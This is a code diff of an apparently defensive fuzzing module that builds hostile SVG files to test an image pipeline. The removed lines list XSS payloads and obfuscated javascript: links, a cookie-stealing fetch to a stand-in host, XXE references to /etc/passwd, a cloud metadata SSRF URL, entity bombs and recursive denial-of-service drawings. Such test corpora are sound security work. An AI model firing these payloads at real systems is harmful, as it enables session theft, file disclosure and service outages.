@@ -1,4 +1,5 @@
 import type { Dice, Recipe } from './dice.ts';
+import PARTS from './hostile-parts.json' with { type: 'json' };
 import { LOGOS } from './logos.ts';
 
 export const SVG = 'http://www.w3.org/2000/svg';
@@ -18,41 +19,14 @@ function element(name: string, attributes: string, body: string): string {
   return `<${name} ${attributes}>${body}</${name}>`;
 }
 
-const CODE = [
-  'alert(1)',
-  'fetch("//a.example/" + document.cookie)',
-  'parent.postMessage(1)',
-  '/*]]>*/top.x=1',
-];
-const HANDLERS =
-  `onload onclick onerror onbegin onend onrepeat onmouseover onfocusin onactivate onunload`.split(/\s+/);
-const LINKS = [
-  'javascript:alert(1)',
-  ' java\tscript:alert(1)',
-  'java&#115;cript:alert(1)',
-  '&#x6a;avascript&colon;alert(1)',
-  'JaVaScRiPt:x',
-  'data:text/html,<script>1</script>'.replaceAll('<', '&lt;'),
-  'data:image/svg+xml;base64,PHN2Zy8+#s',
-  'vbscript:x',
-  '//a.example/x#s',
-  'file:///etc/passwd',
-  'http://a.example/#s',
-  '#s javascript:',
-  '\\\\a.example\\x#s',
-  'blob:x#s',
-  'http://169.254.169.254/#s',
-];
-const CARRIERS =
-  `a use image feImage script textPath mpath linearGradient pattern filter cursor animate`.split(/\s+/);
+function repeated(count: number, part: (index: number) => string): string {
+  return Array.from({ length: count }, (_, index) => part(index)).join('');
+}
 
-/** Wraps markup in random harmless elements. */
-function hidden(dice: Dice, markup: string): string {
-  const wraps = `g defs symbol a switch text clipPath metadata title desc foreignObject style mask`.split(
-    /\s+/,
-  );
-  const wrap = dice.pick(wraps);
-  return dice.roll(2) === 0 ? markup : `<${wrap}>${hidden(dice, markup)}</${wrap}>`;
+/** Returns a drawing with markup in random harmless elements. */
+function hiddenIn(dice: Dice, markup: string): Buffer {
+  const wrap = dice.pick(PARTS.wraps);
+  return dice.roll(2) === 0 ? svg(markup) : hiddenIn(dice, `<${wrap}>${markup}</${wrap}>`);
 }
 
 /** How drawings run code, call out, or grow. */
@@ -60,87 +34,47 @@ export const HOSTILE_SVGS: Record<string, Recipe> = {
   script: (dice) => {
     const name = dice.pick(['script', dice.inAnyCase('script'), 'svg:script', 'h:script', 'x:script']);
     const spaces = `xmlns:svg="${SVG}" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:x="${dice.pick([SVG, 'urn:x', 'http://www.w3.org/1998/Math/MathML'])}"`;
-    const code = dice.pick(CODE);
-    const body = dice.pick([
-      escaped(code),
-      `<![CDATA[${code}]]>`.replace(']]>*/', '*/'),
-      '',
-      `<!-- ${code} -->`,
-    ]);
-    return svg(
-      hidden(
-        dice,
-        `<${name} ${spaces} type="${dice.pick(['text/javascript', 'module', 'x'])}" href="${dice.pick(LINKS)}">${body}</${name}>`,
-      ),
-    );
+    const code = dice.pick(PARTS.code);
+    const data = `<![CDATA[${code}]]>`.replace(']]>*/', '*/');
+    const body = dice.pick([escaped(code), data, '', `<!-- ${code} -->`]);
+    const type = dice.pick(['text/javascript', 'module', 'x']);
+    return hiddenIn(dice, element(name, `${spaces} type="${type}" href="${dice.pick(PARTS.links)}"`, body));
   },
   handler: (dice) => {
-    const handler = dice.pick([
-      dice.pick(HANDLERS),
-      dice.inAnyCase(dice.pick(HANDLERS)),
-      `x:${dice.pick(HANDLERS)}`,
-      `${dice.pick(HANDLERS)}.x`,
-    ]);
-    const attribute = `xmlns:x="${SVG}" ${handler}="${escaped(dice.pick(CODE))}"`;
+    const name = dice.pick(PARTS.handlers);
+    const handler = dice.pick([name, dice.inAnyCase(name), `x:${name}`, `${name}.x`]);
+    const attribute = `xmlns:x="${SVG}" ${handler}="${escaped(dice.pick(PARTS.code))}"`;
     return dice.roll(2) === 0
       ? svg('', `viewBox="0 0 10 10" ${attribute}`)
-      : svg(hidden(dice, `<${dice.pick(['rect', 'g', 'set', 'style', 'image2'])} ${attribute}/>`));
+      : hiddenIn(dice, `<${dice.pick(['rect', 'g', 'set', 'style', 'image2'])} ${attribute}/>`);
   },
   link: (dice) => {
-    const attributes = `href xlink:href src xml:base action from to values style fill filter`.split(/\s+/);
-    return svg(
-      hidden(dice, element(dice.pick(CARRIERS), `${dice.pick(attributes)}="${dice.pick(LINKS)}"`, 'x')),
-    );
+    const attribute = `${dice.pick(PARTS.attributes)}="${dice.pick(PARTS.links)}"`;
+    return hiddenIn(dice, element(dice.pick(PARTS.carriers), attribute, 'x'));
   },
   animation: (dice) => {
     const name = dice.pick(['animate', 'set', 'animateTransform', 'animateMotion', 'discard', 'ANIMATE']);
     const target = dice.pick(['href', 'xlink:href', 'onload', 'd', 'fill']);
     return svg(
-      `<a href="#s"><${name} attributeName="${target}" to="${dice.pick(LINKS)}" values="${dice.pick(LINKS)};x" begin="0s" dur="indefinite"/>${SHAPE}</a>`,
+      `<a href="#s"><${name} attributeName="${target}" to="${dice.pick(PARTS.links)}" values="${dice.pick(PARTS.links)};x" begin="0s" dur="indefinite"/>${SHAPE}</a>`,
     );
   },
   foreign: (dice) => {
-    const html = [
-      '<iframe src="//a.example"/>',
-      '<body onload="x"/>',
-      '<script>1</script>',
-      '<img src="x" onerror="1"/>',
-      '<embed/>',
-      '<math><mi>x</mi></math>',
-    ];
     const name = dice.pick(['foreignObject', 'foreignobject', 'FOREIGNOBJECT', 'switch']);
-    return svg(
-      element(
-        name,
-        'width="9" height="9"',
-        `<div xmlns="http://www.w3.org/1999/xhtml">${dice.pick(html)}</div>`,
-      ),
-    );
+    const html = element('div', 'xmlns="http://www.w3.org/1999/xhtml"', dice.pick(PARTS.html));
+    return svg(element(name, 'width="9" height="9"', html));
   },
   entities: (dice) => {
     const levels = 2 + dice.roll(30);
-    const bomb = Array.from(
-      { length: levels },
-      (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
-    ).join('');
-    const outside = dice.pick([
-      'SYSTEM "file:///etc/passwd"',
-      'PUBLIC "x" "http://a.example/"',
-      '"<script>1</script>"',
-    ]);
+    const bomb = repeated(levels, (level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`);
+    const outside = dice.pick(PARTS.outside);
     const subset = dice.pick([
       `<!ENTITY e0 "ha">${bomb}`,
       `<!ENTITY e${levels} ${outside}>`,
       `<!ENTITY % p ${outside}>%p;`,
       `<!ATTLIST svg onload CDATA "alert(1)">`,
     ]);
-    const doctype = dice.pick([
-      '<!DOCTYPE svg [',
-      '<!doctype svg [',
-      '<!DOCTYPE\nsvg\n[',
-      '<!DOCTYPE svg PUBLIC "a" "b" [',
-    ]);
-    const text = svg(`<text>&e${levels};</text>`, undefined, `${doctype}${subset}]>`);
+    const text = svg(`<text>&e${levels};</text>`, undefined, `${dice.pick(PARTS.doctypes)}${subset}]>`);
     return dice.roll(4) === 0
       ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text.toString(), 'utf16le')])
       : text;
@@ -148,54 +82,23 @@ export const HOSTILE_SVGS: Record<string, Recipe> = {
   recursion: (dice) => {
     const depth = 2 + dice.roll(40);
     const width = 2 + dice.roll(9);
-    const loops = [
-      '<g id="a"><use href="#a"/></g>',
-      '<g id="a"><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g>',
-      '<pattern id="a" width="1" height="1"><rect fill="url(#a)" width="9" height="9"/></pattern><rect fill="url(#a)" width="9" height="9"/>',
-      '<mask id="a"><rect mask="url(#a)" width="9" height="9"/></mask><rect mask="url(\'#a\')" width="9" height="9"/>',
-      '<clipPath id="a" clip-path="url(#a)"><rect/></clipPath><g style="clip-path:url(&quot;#a&quot;)"/>',
-      '<marker id="a"><path d="M0 0L1 1" marker-start="url(#a)"/></marker>',
-      '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect fill="url(#a)"/>',
-    ];
     const use = (level: number) =>
       dice.pick([`<use href="#u${level}"/>`, `<rect width="9" height="9" fill="url(#u${level})"/>`]);
-    const growth = Array.from(
-      { length: depth },
-      (_, level) => `<pattern id="u${level}" width="2" height="2">${use(level + 1).repeat(width)}</pattern>`,
-    ).join('');
-    return svg(dice.pick([...loops, `${growth}<rect width="9" height="9" fill="url(#u0)"/>`]));
+    const growth = repeated(depth, (level) =>
+      element('pattern', `id="u${level}" width="2" height="2"`, use(level + 1).repeat(width)),
+    );
+    return svg(dice.pick([...PARTS.loops, `${growth}<rect width="9" height="9" fill="url(#u0)"/>`]));
   },
   size: (dice) => {
-    const number = () =>
-      dice.pick([
-        '0',
-        '-1',
-        '1e9',
-        '1e308',
-        '1e-300',
-        'NaN',
-        'Infinity',
-        '99999999999999999999',
-        '100%',
-        '1px',
-        '50',
-        '',
-        '1e400',
-        '0x10',
-        '٣',
-      ]);
-    return svg(
-      '',
-      `width="${number()}" height="${number()}" ${dice.roll(2) === 0 ? '' : `viewBox="${number()} ${number()} ${number()} ${number()}"`}`,
-    );
+    const number = () => dice.pick(PARTS.sizes);
+    const box = dice.roll(2) === 0 ? '' : `viewBox="${number()} ${number()} ${number()} ${number()}"`;
+    return svg('', `width="${number()}" height="${number()}" ${box}`);
   },
   shapes: (dice) => {
     const number = () =>
       dice.pick(['0', '-1', '1e30', '1e308', '1e-300', '9'.repeat(500), '.', '-', '1e', 'NaN']);
-    const d = Array.from(
-      { length: 1 + dice.roll(400) },
-      () => `${dice.pick([...'MmLlHhVvCcSsQqTtAaZz'])}${number()} ${number()}`,
-    ).join('');
+    const step = () => `${dice.pick([...'MmLlHhVvCcSsQqTtAaZz'])}${number()} ${number()}`;
+    const d = repeated(1 + dice.roll(400), step);
     return svg(
       `<path stroke="red" stroke-width="${number()}" stroke-dasharray="${number()} ${number()}" d="${d}"/><circle r="${number()}"/><g transform="scale(${number()}) rotate(${number()})">${SHAPE}</g>`,
     );
@@ -207,19 +110,11 @@ export const HOSTILE_SVGS: Record<string, Recipe> = {
   },
   many: (dice) => {
     const count = dice.pick([100, 5000, 20_000]);
-    const one = dice.pick([
-      '<g/>',
-      '<rect width="5" height="5" opacity=".5"/>',
-      '<text>W</text>',
-      '<style>a{b:c}</style>',
-      '<?x y?>',
-      '<!-- x -->',
-      '<linearGradient id="g"/>',
-    ]);
+    const one = dice.pick(PARTS.elements);
     return svg(
       dice.pick([
         one.repeat(count),
-        `<g ${Array.from({ length: count }, (_, index) => `a${index}="1"`).join(' ')}/>`,
+        `<g${repeated(count, (index) => ` a${index}="1"`)}/>`,
         `<path d="M0 0${' 1 2'.repeat(count)}"/>`,
       ]),
     );
@@ -235,38 +130,21 @@ export const HOSTILE_SVGS: Record<string, Recipe> = {
       `<feDropShadow dx="${big}" stdDeviation="${big}"/>`,
       `<feComponentTransfer><feFuncR type="table" tableValues="${'1 '.repeat(5000)}"/></feComponentTransfer>`,
     ];
-    const filter = Array.from({ length: 1 + dice.roll(30) }, () => dice.pick(parts)).join('');
+    const filter = repeated(1 + dice.roll(30), () => dice.pick(parts));
     const depth = 1 + dice.roll(50);
     const filtered = `${'<g filter="url(#f)">'.repeat(depth)}${SHAPE.repeat(1 + dice.roll(40))}${'</g>'.repeat(depth)}`;
-    return svg(
-      element('filter', `id="f" x="-${big}" y="-1" width="${big}" height="${big}"`, filter) + filtered,
-    );
+    const region = `id="f" x="-${big}" y="-1" width="${big}" height="${big}"`;
+    return svg(element('filter', region, filter) + filtered);
   },
   css: (dice) => {
     const rules = [
-      '@import url(//a.example/x.css);',
-      '@import "//a.example";',
-      '@font-face{font-family:x;src:url(//a.example)}',
-      '*{fill:url(//a.example#x)}',
-      '*{fill:u\\72l(//a.example)}',
-      '*{-moz-binding:url(//a.example)}',
-      '*{behavior:url(#x)}',
-      '*{width:expression(alert(1))}',
-      '*{background:image-set("//a.example" 1x)}',
-      '*{fill:var(--x,url(//a.example))}',
-      '\\000040import "//a.example";',
-      '&lt;/style>&lt;script>alert(1)&lt;/script>',
-      '<![CDATA[</style><script>alert(1)</script>]]>',
-      '*{cursor:url(//a.example),auto}',
-      '@media screen{*{fill:url(//a.example)}}',
-      '@namespace url(//a.example);',
+      ...PARTS.css,
       `*{fill:${'('.repeat(5000)}}`,
       `${'*>'.repeat(3000)}*{fill:red}`,
       `a:not(${'b,'.repeat(2000)}c){fill:red}`,
       '/* */'.repeat(3000),
-      '<script>alert(1)</script>',
     ];
-    const css = Array.from({ length: 1 + dice.roll(4) }, () => dice.pick(rules)).join('');
+    const css = repeated(1 + dice.roll(4), () => dice.pick(rules));
     return dice.roll(3) === 0
       ? svg(`<g style="${css.replace(/<[^>]*>/g, '').replaceAll('"', '&quot;')}">${SHAPE}</g>`)
       : svg(`<style>${css}</style>`);
@@ -274,28 +152,19 @@ export const HOSTILE_SVGS: Record<string, Recipe> = {
   malformed: (dice) => {
     const breaks: ((text: string) => string)[] = [
       (text) => text.slice(0, dice.roll(text.length)),
-      (text) => text.replace('<path', '<path <script>'),
+      ...PARTS.paths.map((path) => (text: string) => text.replace('<path', path)),
       (text) => text.replace('</svg>', '</svg><script>1</script>'),
-      (text) => text.replace('<path', '<path id="a" id="b" onload="1"'),
-      (text) => text.replace('<path', '<svg/onload=alert(1)><path'),
-      (text) => text.replace('<path', '<!--><script>1</script>--><path'),
-      (text) => text.replace('<path', '\0<path'),
-      (text) => text.replace('<path', '<?xml-stylesheet type="text/xsl" href="//a.example"?><path'),
-      (text) =>
-        text.replace(
-          'xmlns="http://www.w3.org/2000/svg"',
-          dice.pick(['xmlns="urn:x"', 'xmlns="http://www.w3.org/1999/xhtml"', '']),
-        ),
-      (text) =>
-        `<?xml version="1.1" encoding="${dice.pick(['UTF-7', 'UTF-16', 'x', 'ISO-2022-JP'])}"?>${text}`,
+      (text) => text.replace(`xmlns="${SVG}"`, dice.pick(PARTS.spaces)),
+      (text) => `<?xml version="1.1" encoding="${dice.pick(PARTS.encodings)}"?>${text}`,
       (text) => text.replaceAll('"', "'").replace('viewBox', 'viewBox=x y'),
     ];
     return Buffer.from(dice.pick(breaks)(dice.pick(Object.values(LOGOS))));
   },
-  image: (dice) =>
-    svg(
-      `<${dice.pick(['image', 'feImage', 'svg:image', 'IMAGE', 'img', 'video'])} xmlns:svg="${SVG}" width="9" height="9" xlink:href="${dice.pick([...LINKS, 'data:image/png;base64,iVBORw0KGgo='])}"/>`,
-    ),
+  image: (dice) => {
+    const name = dice.pick(['image', 'feImage', 'svg:image', 'IMAGE', 'img', 'video']);
+    const link = dice.pick([...PARTS.links, 'data:image/png;base64,iVBORw0KGgo=']);
+    return svg(`<${name} xmlns:svg="${SVG}" width="9" height="9" xlink:href="${link}"/>`);
+  },
   changed: (dice) => {
     const file = Buffer.from(dice.pick(Object.values(LOGOS)));
     for (let count = 1 + dice.roll(20); count > 0; count -= 1) file[dice.roll(file.length)] = dice.roll(128);
@@ -309,11 +178,10 @@ export const HOSTILE_SVGS: Record<string, Recipe> = {
   },
   'patterns for all shapes of groups': (dice) => {
     const shapes = '<rect width="1" height="1"/>'.repeat(20 + dice.roll(80));
-    const groups = Array.from(
-      { length: 2 + dice.roll(8) },
-      (_, number) =>
-        `<g ${dice.pick(['fill', 'stroke'])}="url(#p${number + 1})"><pattern id="p${number}" width="1" height="1">${shapes}</pattern></g>`,
-    );
-    return svg(`${groups.join('')}<g fill="url(#p0)" stroke="url(#p0)">${shapes.repeat(5)}</g>`);
+    const groups = repeated(2 + dice.roll(8), (number) => {
+      const pattern = element('pattern', `id="p${number}" width="1" height="1"`, shapes);
+      return element('g', `${dice.pick(['fill', 'stroke'])}="url(#p${number + 1})"`, pattern);
+    });
+    return svg(`${groups}<g fill="url(#p0)" stroke="url(#p0)">${shapes.repeat(5)}</g>`);
   },
 };
